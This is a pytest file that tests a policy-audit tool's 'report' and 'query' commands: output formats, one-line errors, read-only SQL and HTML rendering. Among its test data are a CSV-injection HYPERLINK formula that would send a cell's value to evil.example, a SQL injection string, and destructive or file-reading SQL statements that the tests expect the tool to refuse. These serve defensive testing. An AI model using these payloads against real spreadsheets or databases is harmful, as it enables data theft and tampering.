"""``policyengine report`` and ``policyengine query`` end to end, as real subprocesses.

Every bad input must end in one ``error:`` line and exit 1 (exit 2 for misuse of
options), never a traceback; every format must carry the same numbers as the
library; the HTML must render in a real browser.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from policyengine.reporting import bias_from_csv, drift_from_csv
from policyengine.reporting.reports import list_reports

sys.path.insert(0, str(Path(__file__).parent))
from test_reports import write_audit_db

ORACLES = Path(__file__).resolve().parent / "oracles"
FAIR = ORACLES / "fairness" / "decisions.csv"
REF, CUR = ORACLES / "drift" / "reference.csv", ORACLES / "drift" / "current.csv"

POLICY = """\
package finance

role ap_agent
agent invoice_classifier
    owner "ap-team@example.com"
    roles ap_agent

model classifier_small
    provider "local" region "eu-west-1" hosting internal

rule agents_call_models
    allow role ap_agent to invoke model "*"

budget invoice_workflow
    for workflow "invoice-exceptions"
    limit 2_000_000 tokens per month
    limit 500 USD per day

budget small_model
    for model "classifier_small"
    limit 4000 tokens per day
"""


def pe_inprocess(*args: str) -> subprocess.CompletedProcess:
    """The same command through click's runner: for the long tables of error cases."""
    from click.testing import CliRunner

    from policyengine.cli import main

    r = CliRunner().invoke(main, [str(a) for a in args], env={"COLUMNS": "200"}, prog_name="policyengine")
    if r.exception is not None and not isinstance(r.exception, SystemExit):
        raise r.exception
    return subprocess.CompletedProcess(args, r.exit_code, r.stdout, r.stderr)


def pe(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    exe = shutil.which("policyengine") or str(Path(sys.executable).parent / "policyengine")
    env = {**os.environ, "COLUMNS": "200"}
    return subprocess.run([exe, *map(str, args)], capture_output=True, text=True, cwd=cwd, env=env, timeout=120,
                          check=False)


def ok(*args: str, cwd: Path | None = None) -> str:
    """Run in a real process (end to end) and return stdout; it must succeed."""
    r = pe(*args, cwd=cwd)
    assert r.returncode == 0, r.stderr
    return r.stdout


def run(*args: str) -> str:
    """The same through click's runner, in process: for the many cases of one behaviour."""
    r = pe_inprocess(*args)
    assert r.returncode == 0, r.stderr
    return r.stdout


@pytest.fixture
def audit_db(tmp_path) -> Path:
    return write_audit_db(tmp_path / "audit.duckdb")


def one_error_line(r: subprocess.CompletedProcess, code: int = 1) -> str:
    assert r.returncode == code, (r.returncode, r.stdout, r.stderr)
    assert "Traceback" not in r.stderr
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), r.stderr
    return lines[0]


# --- named reports -------------------------------------------------------------------------


def test_list_names_every_report_with_parameters():
    out = ok("report", "--list")
    for spec in list_reports():
        assert spec.name in out and spec.title in out
    assert "dataset=VALUE" in out and "[since=1970-01-01]" in out
    assert "\nbias " in out and "\ndrift " in out


def test_list_as_json_for_tools():
    specs = {r["name"]: r for r in json.loads(run("report", "--list", "--format", "json"))}
    assert set(specs) == {s.name for s in list_reports()}
    window = {p["name"]: p for p in specs["budget_spend"]["params"]}["window"]
    assert (window["type"], window["default"], window["choices"]) == ("CHOICE", "day", ["hour", "day", "month"])
    assert {p["name"]: p["required"] for p in specs["data_access"]["params"]}["dataset"] is True


def test_named_report_in_every_format_carries_the_same_rows(audit_db):
    as_json = json.loads(ok("report", "escalations", "--db", audit_db, "--format", "json"))
    assert [(r["requester"], r["approver"], r["four_eyes"]) for r in as_json] == [
        ("bob", "dave", True), ("erin", "erin", False)]
    as_csv = list(csv.DictReader(io.StringIO(run("report", "escalations", "--db", audit_db, "--format", "csv"))))
    assert [(r["requester"], r["approver"], r["four_eyes"]) for r in as_csv] == [
        ("bob", "dave", "True"), ("erin", "erin", "False")]
    table = run("report", "escalations", "--db", audit_db)
    assert "Escalations with approver" in table and "dave" in table and "2 row(s)" in table
    page = run("report", "escalations", "--db", audit_db, "--format", "html")
    assert page.startswith("<!DOCTYPE html>") and "EU AI Act Art. 14" in page and "<td>dave</td>" in page


def test_default_database_is_policyengine_duckdb_in_the_working_directory(tmp_path):
    write_audit_db(tmp_path / "policyengine.duckdb")
    rows = json.loads(ok("report", "denials", "--format", "json", cwd=tmp_path))
    assert {r["actor"] for r in rows} == {"invoice_classifier", "mallory"}


def test_denials_csv_golden(audit_db):
    out = ok("report", "denials", "--db", audit_db, "--format", "csv", "--param", "rule=<default-deny>")
    assert out == (
        "seq,ts,actor,workflow,run_id,action,resource,rule,message,file,line\n"
        "11,2026-11-02T12:00:00+00:00,mallory,,,read,dataset:hr/salaries,<default-deny>,"
        "no allow rule matches this request (default deny),rules/finance.policy,10\n"
    )


@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"),
    ("mallory", "mallory"), ("a=b", "a=b"),
])
def test_a_text_cell_a_spreadsheet_would_run_is_written_as_text(cell, written):
    """CSV injection: an actor id chosen by a requester must not become a formula in an auditor's spreadsheet."""
    from policyengine.reporting.render import csv_writer

    out = io.StringIO()
    csv_writer(out).writerow([cell, -5, 1.5, None])
    assert out.getvalue() == f"{written},-5,1.5,\n"


def test_params_are_bound(audit_db):
    rows = json.loads(run("report", "decisions_by_rule", "--db", audit_db, "--format", "json",
                         "--param", "since=2026-11-03", "--param", "until=2026-11-04"))
    assert {r["day"] for r in rows} == {"2026-11-03"}
    sneaky = json.loads(run("report", "denials", "--db", audit_db, "--format", "json",
                           "--param", "rule=x' OR '1'='1"))
    assert sneaky == []


def test_rules_give_budget_limits_and_agent_owners(audit_db, tmp_path):
    (tmp_path / "finance.policy").write_text(POLICY)
    rows = json.loads(ok("report", "budget_spend", "--db", audit_db, "--rules", tmp_path / "finance.policy",
                         "--format", "json"))
    by = {(r["scope_kind"], r["scope"]): r for r in rows}
    assert by[("model", "classifier_small")]["token_limit"] == 4000.0
    assert by[("model", "classifier_small")]["token_pct"] == 50.0
    assert by[("workflow", "invoice-exceptions")]["usd_limit"] == 500.0
    assert by[("model", "frontier_llm")]["token_limit"] is None
    monthly = json.loads(run("report", "budget_spend", "--db", audit_db, "--rules", tmp_path / "finance.policy",
                            "--param", "window=month", "--format", "json"))
    wf = next(r for r in monthly if r["scope"] == "invoice-exceptions")
    assert wf["token_limit"] == 2_000_000.0 and wf["token_pct"] == 0.1
    owners = json.loads(run("report", "agent_activity", "--db", audit_db, "--rules", tmp_path / "finance.policy",
                           "--format", "json"))
    assert {r["agent"]: r["owner"] for r in owners}["invoice_classifier"] == "ap-team@example.com"


def test_output_file(audit_db, tmp_path):
    target = tmp_path / "models.html"
    r = pe("report", "model_inventory", "--db", audit_db, "--format", "html", "-o", target)
    assert r.returncode == 0 and r.stdout == "" and target.read_text().startswith("<!DOCTYPE html>")


# --- offline bias and drift ------------------------------------------------------------------------


def test_offline_bias_json_is_the_library_result():
    out = json.loads(ok("report", "bias", "--csv", FAIR, "--outcome", "y_pred", "--positive", "1",
                        "--group", "group", "--label", "y_true", "--min-samples", "100", "--format", "json"))
    lib = bias_from_csv(FAIR, outcome="y_pred", positive="1", group="group", label="y_true", min_samples=100)
    assert out == json.loads(json.dumps(lib.to_dict()))
    assert out["flagged_groups"] == ["C"]


def test_offline_bias_reference_group_and_table():
    out = run("report", "bias", "--csv", FAIR, "--outcome", "y_pred", "--positive", "1", "--group", "group",
             "--reference", "B")
    assert "reference: B" in out and "below the 0.8 impact-ratio line: C" in out
    assert "equalized odds not computed" in out


def test_offline_drift_several_columns():
    out = json.loads(ok("report", "drift", "--reference", REF, "--current", CUR,
                        "--column", "amount", "--column", "region", "--format", "json"))
    assert [c["column"] for c in out["columns"]] == ["amount", "region"]
    lib = drift_from_csv(REF, CUR, "region")
    assert out["columns"][1]["psi"] == lib.psi and out["columns"][1]["chi2"]["pvalue"] == lib.chi2.pvalue
    rows = list(csv.DictReader(io.StringIO(run("report", "drift", "--reference", REF, "--current", CUR,
                                              "--column", "channel", "--format", "csv"))))
    assert [r["bin"] for r in rows] == ["api", "email", "phone", "portal"]


# --- bad input: one line, exit 1; misuse: exit 2 ------------------------------------------------------


def _bad_csvs(tmp_path: Path) -> dict[str, Path]:
    files = {
        "empty_group.csv": "g,y\na,1\n,0\n",
        "mixed_ref.csv": "x\n1\n2\nthree\n",
        "num_cur.csv": "x\n1\n2\n",
        "ok.csv": "g,y\na,1\nb,0\n",
        "ragged.csv": "g,y\na,1,3\nb\n",
        "empty.csv": "",
    }
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    (tmp_path / "latin1.csv").write_bytes("g,y\nM\u00fcnchen,1\nBerlin,0\n".encode("latin-1"))
    junk = tmp_path / "junk.duckdb"
    junk.write_bytes(b"\x00garbage" * 1000)
    return {k: tmp_path / k for k in [*files, "junk.duckdb"]}


@pytest.mark.parametrize(
    "args, message",
    [
        (["report", "nope", "--db", "{db}"], "unknown report 'nope'"),
        (["report", "data_access", "--db", "{db}"], "needs parameter 'dataset'"),
        (["report", "denials", "--db", "{db}", "--param", "colour=red"], "has no parameter 'colour'"),
        (["report", "denials", "--db", "{db}", "--param", "since=soon"], "is not an ISO 8601 timestamp"),
        (["report", "denials", "--db", "{db}", "--param", "since"], "expected NAME=VALUE"),
        (["report", "denials", "--db", "{tmp}/missing.duckdb"], "database file not found"),
        (["report", "denials", "--db", "{tmp}/junk.duckdb"], "not a DuckDB database"),
        (["report", "bias", "--csv", "{tmp}/empty_group.csv", "--outcome", "y", "--positive", "1", "--group", "g"],
         "empty_group.csv:3: empty group in column 'g'"),
        (["report", "bias", "--csv", "{tmp}/empty_group.csv", "--outcome", "y", "--positive", "1", "--group", "grp"],
         "no column 'grp' for --group"),
        (["report", "bias", "--csv", "{tmp}/ok.csv", "--outcome", "y", "--positive", "1", "--group", "g",
          "--reference", "zz"], "reference group 'zz' has no rows"),
        (["report", "drift", "--reference", "{tmp}/mixed_ref.csv", "--current", "{tmp}/num_cur.csv", "--column", "x"],
         "mixed_ref.csv:4: column 'x' mixes numbers and text"),
        (["report", "drift", "--reference", "{tmp}/num_cur.csv", "--current", "{tmp}/num_cur.csv", "--column", "y"],
         "no column 'y' for --column"),
        (["report", "drift", "--reference", "{tmp}/nope.csv", "--current", "{tmp}/num_cur.csv", "--column", "x"],
         "CSV file not found"),
        (["report", "bias", "--csv", "{tmp}/latin1.csv", "--outcome", "y", "--positive", "1", "--group", "g"],
         "latin1.csv: is not UTF-8 text"),
        (["report", "bias", "--csv", "{tmp}/ragged.csv", "--outcome", "y", "--positive", "1", "--group", "g"],
         "could not split the header 'g,y' into columns"),
        (["report", "bias", "--csv", "{tmp}/empty.csv", "--outcome", "y", "--positive", "1", "--group", "g"],
         "empty.csv: is empty"),
        (["query", "SELECT * FROM nowhere", "--db", "{db}"], "query: Catalog Error"),
        (["query", "SELEC 1", "--db", "{db}"], "query: Parser Error"),
    ],
)
def test_bad_input_is_one_line_and_exit_1(audit_db, tmp_path, args, message):
    _bad_csvs(tmp_path)
    r = pe_inprocess(*(a.format(db=audit_db, tmp=tmp_path) for a in args))
    assert message in one_error_line(r)


def test_errors_end_to_end_in_a_real_process(audit_db, tmp_path):
    """The in-process tables above, spot-checked through the installed entry point."""
    _bad_csvs(tmp_path)
    assert "unknown report 'nope'" in one_error_line(pe("report", "nope", "--db", audit_db))
    assert "mixes numbers and text" in one_error_line(
        pe("report", "drift", "--reference", tmp_path / "mixed_ref.csv", "--current", tmp_path / "num_cur.csv",
           "--column", "x"))
    assert "not a DuckDB database" in one_error_line(pe("report", "denials", "--db", tmp_path / "junk.duckdb"))
    assert "refused, DELETE" in one_error_line(pe("query", "DELETE FROM audit_log", "--db", audit_db))
    r = pe("report", "bias", "--csv", "x.csv")
    assert r.returncode == 2 and "Traceback" not in r.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["report"],
        ["report", "bias", "--csv", "x.csv"],
        ["report", "drift", "--reference", "a.csv"],
        ["report", "denials", "--format", "pdf"],
        ["report", "bias", "--min-samples", "many"],
    ],
)
def test_option_misuse_is_a_usage_error(args):
    r = pe_inprocess(*args)
    assert r.returncode == 2 and "Traceback" not in r.stderr and "Usage:" in r.stderr


# --- query is read-only -----------------------------------------------------------------------------


def test_query_json_columns_come_back_as_json(audit_db):
    rows = json.loads(run("query", "SELECT payload FROM audit_log WHERE event = 'alert'", "--db", audit_db,
                          "--format", "json"))
    assert rows[0]["payload"]["rule"] == "finance.payment_fairness" and rows[0]["payload"]["breach"] is True


def test_query_reads(audit_db):
    rows = json.loads(ok("query", "SELECT event, count(*) AS n FROM audit_log GROUP BY ALL ORDER BY event",
                         "--db", audit_db, "--format", "json"))
    assert {r["event"]: r["n"] for r in rows}["decision"] == 8


@pytest.mark.parametrize(
    "statement, kind",
    [
        ("INSERT INTO audit_log SELECT * FROM audit_log", "INSERT"),
        ("DELETE FROM audit_log", "DELETE"),
        ("UPDATE audit_log SET actor = 'x'", "UPDATE"),
        ("DROP TABLE audit_log", "DROP"),
        ("CREATE TABLE t AS SELECT 1", "CREATE"),
        ("COPY audit_log TO '/tmp/out.csv'", "COPY"),
        ("ATTACH '/tmp/other.duckdb' AS o", "ATTACH"),
        ("SELECT 1; DELETE FROM audit_log", None),
        # a data-driven PIVOT parses as MULTI: a write around one is still refused by name
        ("CREATE TABLE t AS PIVOT audit_log ON event USING count(*)", "CREATE"),
        ("COPY (PIVOT audit_log ON event USING count(*)) TO '/tmp/out.csv'", "COPY"),
        ("INSERT INTO audit_log PIVOT audit_log ON event USING count(*)", "INSERT"),
        ("-- looks harmless\nDELETE FROM audit_log", "DELETE"),
    ],
)
def test_query_refuses_writes(audit_db, statement, kind):
    before = audit_db.read_bytes()
    line = one_error_line(pe_inprocess("query", statement, "--db", audit_db))
    assert (f"refused, {kind} is not a read statement" in line) if kind else ("exactly one statement" in line)
    assert audit_db.read_bytes() == before


@pytest.mark.parametrize(
    "args, columns",
    [
        (("PIVOT audit_log ON event USING count(*)",), None),
        (("pivot (SELECT event FROM audit_log) ON event",), None),
        (("WITH e AS (SELECT event, actor FROM audit_log) PIVOT e ON event USING count(*) GROUP BY actor",), None),
        (("-- per event\nPIVOT audit_log ON event USING count(*) GROUP BY event",), None),
        (("UNPIVOT (SELECT 1 AS a, 2 AS b) ON a, b INTO NAME k VALUE v",), ["k", "v"]),
        (("DESCRIBE audit_log",), None),
        (("SUMMARIZE audit_log",), None),
        (("SHOW TABLES",), ["name"]),
        (("EXPLAIN SELECT 1",), None),
        (("FROM audit_log SELECT count(*) AS n",), ["n"]),
        (("-- a comment first\nSELECT 1 AS x",), ["x"]),
        (("--format", "json", "-- options before\nSELECT 2 AS x"), ["x"]),
        (("/* block */ SELECT 3 AS x",), ["x"]),
        (("--", "-- after the end of options\nSELECT 4 AS x"), ["x"]),
    ],
)
def test_query_accepts_every_read_statement(audit_db, args, columns):
    after_end = args[0] == "--"  # `query -- SQL`: the options come first
    r = (pe_inprocess("query", "--db", audit_db, "--format", "json", *args) if after_end
         else pe_inprocess("query", *args, "--db", audit_db, "--format", "json"))
    assert r.returncode == 0, r.stderr
    rows = json.loads(r.stdout)
    assert rows
    if columns:
        assert list(rows[0]) == columns


def test_query_sql_starting_with_a_comment_in_a_real_process(audit_db):
    out = ok("query", "-- how many decisions\nSELECT count(*) AS n FROM audit_log WHERE event = 'decision'",
             "--db", audit_db, "--format", "csv")
    assert out.split() == ["n", "8"]
    pivot = ok("query", "PIVOT (SELECT event FROM audit_log) ON event", "--db", audit_db, "--format", "json")
    assert json.loads(pivot)[0]["decision"] == 8


def test_query_cannot_read_other_files(audit_db, tmp_path):
    (tmp_path / "secret.csv").write_text("a\n1\n")
    line = one_error_line(pe_inprocess("query", f"SELECT * FROM read_csv('{tmp_path / 'secret.csv'}')", "--db", audit_db))
    assert "disabled" in line


def test_every_command_has_help():
    for command in (("report",), ("query",), ("monitor",), ("models", "blocked"), ("models", "unblock")):
        out = run(*command, "--help")
        usage, _, rest = out.partition("\n\n")
        assert usage.startswith("Usage: policyengine " + " ".join(command))
        assert rest.strip().splitlines()[0].strip()  # a one-line summary before the options
        assert "Options:" in out


# --- the HTML renders in a real browser -------------------------------------------------------------

CHROMIUM = next((p for p in ("/usr/bin/chromium", shutil.which("chromium"), shutil.which("chromium-browser"))
                 if p and Path(p).exists()), None)


@pytest.mark.skipif(CHROMIUM is None, reason="headless Chromium not installed (apt-get install chromium)")
@pytest.mark.parametrize("kind", ["bias", "drift"])
def test_html_report_renders_in_headless_chromium(tmp_path, kind):
    page = tmp_path / f"{kind}.html"
    if kind == "bias":
        ok("report", "bias", "--csv", FAIR, "--outcome", "y_pred", "--positive", "1", "--group", "group",
           "--label", "y_true", "--format", "html", "-o", page)
    else:
        ok("report", "drift", "--reference", REF, "--current", CUR, "--column", "amount", "--column", "risk_score",
           "--column", "channel", "--format", "html", "-o", page)
    text = page.read_text()
    assert "<svg" in text and "<script" not in text and "http://" not in text.replace("http://www.w3.org/2000/svg", "")
    shot = tmp_path / f"{kind}.png"
    subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}",
         f"--screenshot={shot}", "--window-size=900,700", page.as_uri()],
        capture_output=True, timeout=90, check=False,
    )
    data = shot.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    pixels = png_pixels(data)
    colours = set(pixels)
    assert len(colours) > 50  # not a blank page: text, bars and lines in many shades
    drawn = sum(1 for r, g, b in pixels if (b > 150 and r < 120) or (r > 180 and g < 110))
    assert drawn > 500  # the chart's blue and red bars are drawn


def png_pixels(data: bytes) -> list[tuple[int, int, int]]:
    """Decode an 8-bit RGB(A) non-interlaced PNG (what Chromium writes) without a library."""
    import struct
    import zlib

    pos, idat, width = 8, b"", 0
    while pos < len(data):
        length, ctype = struct.unpack(">I4s", data[pos:pos + 8])
        chunk = data[pos + 8:pos + 8 + length]
        if ctype == b"IHDR":
            width, height, depth, colour, _, _, interlace = struct.unpack(">IIBBBBB", chunk)
            assert depth == 8 and colour in (2, 6) and interlace == 0
            bpp = 3 if colour == 2 else 4
        elif ctype == b"IDAT":
            idat += chunk
        pos += 12 + length
    raw, stride, prev, out = zlib.decompress(idat), width * bpp, bytearray(width * bpp), []
    for y in range(height):
        kind, line = raw[y * (stride + 1)], bytearray(raw[y * (stride + 1) + 1:(y + 1) * (stride + 1)])
        for i in range(stride):
            a = line[i - bpp] if i >= bpp else 0
            b, c = prev[i], (prev[i - bpp] if i >= bpp else 0)
            if kind == 1:
                line[i] = (line[i] + a) & 255
            elif kind == 2:
                line[i] = (line[i] + b) & 255
            elif kind == 3:
                line[i] = (line[i] + (a + b) // 2) & 255
            elif kind == 4:
                pa, pb, pc = abs(b - c), abs(a - c), abs(a + b - 2 * c)
                line[i] = (line[i] + (a if pa <= pb and pa <= pc else b if pb <= pc else c)) & 255
        out.extend(tuple(line[i:i + 3]) for i in range(0, stride, bpp))
        prev = line
    return out


def test_drift_from_the_log_shows_a_value_whose_json_type_changed_as_two_categories(tmp_path):
    """1 in the reference window, "1" in the current one: two bins, the string one as its JSON literal, and a note."""
    from datetime import datetime, timedelta

    oct15, nov15 = datetime(2026, 10, 15), datetime(2026, 11, 15)
    db = write_audit_db(tmp_path / "audit.duckdb", [
        (t0 + timedelta(hours=i), "model_call", "a", None, None, {"model": "m", "output": {"v": v}}, "h")
        for t0, values in ((oct15, [1] * 6 + ["x"] * 2), (nov15, ["1"] * 6 + ["x"] * 2)) for i, v in enumerate(values)])
    args = ("report", "drift", "--db", db, "--model", "m", "--column", "output.v", "--categorical",
            "--until", "2026-12-01", "--baseline-days", "30")
    note = 'value 1 at output.v is a number in some calls and a string in others: counted as two categories, 1 and "1"'
    (col,) = json.loads(run(*args, "--format", "json"))["columns"]
    assert {b["bin"]: (b["ref_count"], b["cur_count"]) for b in col["bins"]} == {"1": (6, 0), '"1"': (0, 6), "x": (2, 2)}
    assert note in col["notes"] and col["psi"] > 0.2 and col["chi2"]["pvalue"] < 0.05
    table = run(*args)
    assert '│ "1" ' in table and "│ 1   " in table and f"note: output.v: {note}" in table


# (case, current values, in the JSON and the table: the note, or the refusal)
STRINGS_IN_NUMERIC_DRIFT = [
    ("left out, with a note", [0.2, "0.9", 0.4, "1", 0.6, 0.8],
     'note: output.v: 0 reference and 2 current call(s) with a string at output.v that reads as a number ("0.9", '
     '"1") were left out: numeric drift counts JSON numbers only'),
    ("no number left, refused", ["0.9", "1", "0.9"],
     "error: output.v of model 'm' has no JSON number in the current window (0 reference and 3 current call(s) "
     'with a string at output.v that reads as a number ("0.9", "1")): numeric drift counts JSON numbers only, so '
     "drift is not computed (--categorical, or a chi2 rule, compares the values as categories)"),
]


@pytest.mark.parametrize("facts", [True, False], ids=["audit_facts", "payloads"])
@pytest.mark.parametrize(("cur", "said"), [c[1:] for c in STRINGS_IN_NUMERIC_DRIFT],
                         ids=[c[0] for c in STRINGS_IN_NUMERIC_DRIFT])
def test_drift_from_the_log_never_counts_a_string_as_a_number(tmp_path, cur, said, facts):
    """"0.9" reads as 0.9 but is a string: report drift leaves it out of the numbers and says so, or refuses."""
    from datetime import datetime, timedelta

    import duckdb

    from policyengine.audit.facts import FactsWriter

    oct15, nov15 = datetime(2026, 10, 15), datetime(2026, 11, 15)
    db = write_audit_db(tmp_path / "audit.duckdb", [
        (t0 + timedelta(hours=i), "model_call", "a", None, None, {"model": "m", "output": {"v": v}}, "h")
        for t0, values in ((oct15, [0.1, 0.3, 0.5, 0.7, 0.9, 1]), (nov15, cur)) for i, v in enumerate(values)])
    if facts:
        con = duckdb.connect(str(db))
        FactsWriter(con)
        con.close()
    _numeric_drift_says(("report", "drift", "--db", db, "--model", "m", "--column", "output.v", "--until",
                         "2026-12-01", "--baseline-days", "30"), said, "note: output.v: ")


def _numeric_drift_says(args: tuple[object, ...], said: str, column: str) -> None:
    """``report drift args`` refuses with ``said`` (one line, exit 1, in the table and JSON formats), or compares 6
    reference and 4 current numbers with the note ``said`` (``column`` + the note) in the JSON and the table."""
    if said.startswith("error: "):
        assert one_error_line(pe_inprocess(*args)) == said
        assert one_error_line(pe_inprocess(*args, "--format", "json")) == said
        return
    (col,) = json.loads(run(*args, "--format", "json"))["columns"]
    assert col["kind"] == "numeric" and (col["n_reference"], col["n_current"]) == (6, 4)
    assert said.removeprefix(column) in col["notes"]
    assert said in run(*args)


# (case, the current file's cells, in the JSON and the table: the note, or the refusal ({cur}: the file))
CSV_CELLS_IN_NUMERIC_DRIFT = [
    ("left out, with a note", ["0.2", "nan", "0.4", "inf", "0.6", "0.8", " 1", "1_000"],
     'note: x: 0 reference and 4 current cell(s) not written as a plain decimal number (" 1", "1_000", "inf", ...) '
     "were left out: numeric drift counts plain decimal numbers only"),
    ("no number left, refused", ["nan", "-inf", "nan", ""],
     "error: column 'x' has no plain decimal number in the current file {cur} (0 reference and 3 current cell(s) "
     'not written as a plain decimal number ("nan", "-inf")): numeric drift counts plain decimal numbers only, so '
     "drift is not computed (--categorical compares the values as categories)"),
]


@pytest.mark.parametrize(("cells", "said"), [c[1:] for c in CSV_CELLS_IN_NUMERIC_DRIFT],
                         ids=[c[0] for c in CSV_CELLS_IN_NUMERIC_DRIFT])
def test_drift_from_csv_never_counts_nan_or_a_padded_cell_as_a_number(tmp_path, cells, said):
    """nan reads as a number (float(), DuckDB's cast) but is none: report drift leaves it out and says so, or
    refuses with one line and exit 1, in every format."""
    ref, cur = tmp_path / "ref.csv", tmp_path / "cur.csv"
    ref.write_text("x\n" + "".join(f"{v}\n" for v in (0.1, 0.3, 0.5, 0.7, 0.9, 1)))
    cur.write_text("x\n" + "".join(f"{v}\n" for v in cells))
    args = ("report", "drift", "--reference", ref, "--current", cur, "--column", "x")
    said = said.format(cur=cur)
    _numeric_drift_says(args, said, "note: x: ")
    if said.startswith("error: "):
        assert one_error_line(pe(*args)) == said  # the installed entry point too
    else:  # a CSV holds rows only: the note is on stderr
        assert said in pe_inprocess(*args, "--format", "csv").stderr.splitlines()


# --- a database that cannot be opened: every command, one clean line -----------------------------

DB_COMMANDS = {
    "report": ("report", "denials"),
    "report bias --model": ("report", "bias", "--model", "m", "--group", "subject.region", "--positive", "yes"),
    "report drift --model": ("report", "drift", "--model", "m", "--column", "output.confidence"),
    "query": ("query", "SELECT 1"),
    "monitor": ("monitor",),
    "monitor --no-record": ("monitor", "--no-record"),
    "models blocked": ("models", "blocked"),
    "models unblock": ("models", "unblock", "m"),
}
BAD_DBS = {
    "missing": "database file not found (pass --db FILE)",
    "directory": "is a directory, not a DuckDB database file",
    "text file": "not a DuckDB database file",
    "locked": ("database is in use by another process (pid {pid}); one process at a time may open it "
               "(wait for it to finish, or read a snapshot or sealed copy)"),
}


@pytest.fixture(scope="module")
def bad_dbs(tmp_path_factory):
    """Each kind of unusable database; the locked one is held open for writing by another process."""
    root = tmp_path_factory.mktemp("bad_dbs")
    (root / "directory.duckdb").mkdir()
    (root / "text.duckdb").write_text("not a database\n")
    locked = write_audit_db(root / "locked.duckdb", [])
    holder = subprocess.Popen(
        [sys.executable, "-c", ("import duckdb, sys; c = duckdb.connect(sys.argv[1]); print('ready', flush=True); "
                                "sys.stdin.read()"), str(locked)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert holder.stdout is not None and holder.stdout.readline().strip() == "ready"
    yield {"missing": root / "missing.duckdb", "directory": root / "directory.duckdb",
           "text file": root / "text.duckdb", "locked": locked}, holder.pid
    holder.communicate("")  # closes its stdin: the holder exits


@pytest.mark.parametrize("bad", list(BAD_DBS))
@pytest.mark.parametrize("command", list(DB_COMMANDS))
def test_every_command_names_an_unusable_database_once(bad_dbs, command, bad, tmp_path, monkeypatch):
    paths, pid = bad_dbs
    monkeypatch.chdir(tmp_path)  # no ./policyengine.key: monitor must still complain about the database first
    db = paths[bad]
    line = one_error_line(pe_inprocess(*DB_COMMANDS[command], "--db", db))
    assert line == f"error: {db}: " + BAD_DBS[bad].format(pid=pid)
    assert line.count(db.name) == 1


@pytest.mark.parametrize("bad", list(BAD_DBS))
def test_an_unusable_database_in_a_real_process(bad_dbs, bad, tmp_path):
    """The same through the installed command, with a relative --db as people type it."""
    paths, pid = bad_dbs
    db = paths[bad]
    r = pe("query", "SELECT 1", "--db", db.name, cwd=db.parent)
    assert one_error_line(r) == f"error: {db.name}: " + BAD_DBS[bad].format(pid=pid)


@pytest.mark.parametrize(("kind", "verified", "box", "verdict"), [
    ("audit log", False, "provenance bad", "FAILED verification"),
    ("audit segments", False, "provenance bad", "FAILED verification"),
    ("audit segments", True, "provenance ok", "verified"),
    ("CSV file", None, "provenance muted", None),
])
def test_a_report_page_says_in_red_when_its_log_or_folder_failed_verification(kind, verified, box, verdict):
    from policyengine.reporting.provenance import Provenance

    html = Provenance("audit/", kind, verified, "summary").html()
    assert f"<div class='{box}'>" in html
    assert (verdict is None and "verif" not in html.split("</p>")[0]) or f">{verdict}</strong>" in html


def test_a_bias_csv_keeps_its_caveats_on_stderr(tmp_path):
    """A CSV holds only rows, so the notes the table and JSON print beside them go to stderr."""
    data = tmp_path / "d.csv"
    data.write_text("g,y\na,1\na,0\nz,0\nz,0\n", encoding="utf-8")
    r = pe("report", "bias", "--csv", data, "--outcome", "y", "--positive", "1", "--group", "g", "--reference", "z",
           "--format", "csv")
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("group,")
    assert "note: impact ratios undefined: the reference group 'z' has selection rate 0\n" in r.stderr
